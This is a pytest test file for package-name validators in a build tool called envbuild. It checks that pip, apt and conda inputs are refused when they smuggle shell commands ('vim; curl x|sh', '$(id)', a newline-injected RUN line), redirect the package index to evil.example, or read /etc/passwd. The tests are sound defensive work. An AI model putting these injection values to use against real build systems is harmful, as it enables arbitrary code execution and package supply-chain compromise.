"""Hostile and malformed user package input is refused with the field and the rule named."""

from __future__ import annotations

import pytest

from envbuild.common.errors import EXIT_USAGE, UsageError
from envbuild.core.packages import apt_package, conda_spec, pip_requirement

HOSTILE = [
    "vim; curl x|sh",
    "$(id)",
    "numpy\nRUN id",
    "-o APT::Get::AllowUnauthenticated=true",
    "--index-url=https://evil.example/simple",
    "-r /etc/passwd",
    "numpy\x00",
    "a" * 10_000,
    "`id`",
    "",
    "   ",
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize(("check", "field"), [(pip_requirement, "--pip"), (apt_package, "--apt"),
                                              (conda_spec, "--conda")])
def test_hostile_input_refused(check: object, field: str, value: str) -> None:
    with pytest.raises(UsageError) as info:
        check(value)  # type: ignore[operator]
    assert info.value.exit_code == EXIT_USAGE
    assert field in info.value.message
    assert "\n" not in info.value.message


@pytest.mark.parametrize(("value", "expected"), [
    ("numpy<2", "numpy<2"),
    ("transformers==4.44.2", "transformers==4.44.2"),
    ("requests[socks]>=2.31", "requests[socks]>=2.31"),
    ("pandas; python_version >= '3.10'", 'pandas; python_version >= "3.10"'),
])
def test_valid_pip(value: str, expected: str) -> None:
    assert pip_requirement(value) == expected


def test_direct_url_needs_allow_url() -> None:
    url = "pkg @ https://example.com/pkg-1.0-py3-none-any.whl"
    with pytest.raises(UsageError, match="direct URL"):
        pip_requirement(url)
    assert pip_requirement(url, allow_url=True).startswith("pkg @ https://")


def test_torch_is_not_a_user_package() -> None:
    with pytest.raises(UsageError, match="come from the spec"):
        pip_requirement("torch==2.0.0")


@pytest.mark.parametrize("value", ["curl", "libgl1", "g++", "curl=7.88.1-10+deb12u5",
                                   "python3.11-venv", "libc6=2.36-9+deb12u4"])
def test_valid_apt(value: str) -> None:
    assert apt_package(value) == value


@pytest.mark.parametrize("value", ["Curl", "c", "curl=", "curl=abc", "curl==1", "../x"])
def test_invalid_apt(value: str) -> None:
    with pytest.raises(UsageError, match="--apt"):
        apt_package(value)


@pytest.mark.parametrize("value", ["numpy>=1.26", "conda-forge::ffmpeg", "ffmpeg=6.1",
                                   "blas * mkl", "numpy 1.26.*", "cuda-nvcc=12.1"])
def test_valid_conda(value: str) -> None:
    assert conda_spec(value) == value


@pytest.mark.parametrize("value", ["numpy >=1 ; rm", "a|b", "numpy>=1.26 && id"])
def test_invalid_conda(value: str) -> None:
    with pytest.raises(UsageError, match="--conda"):
        conda_spec(value)
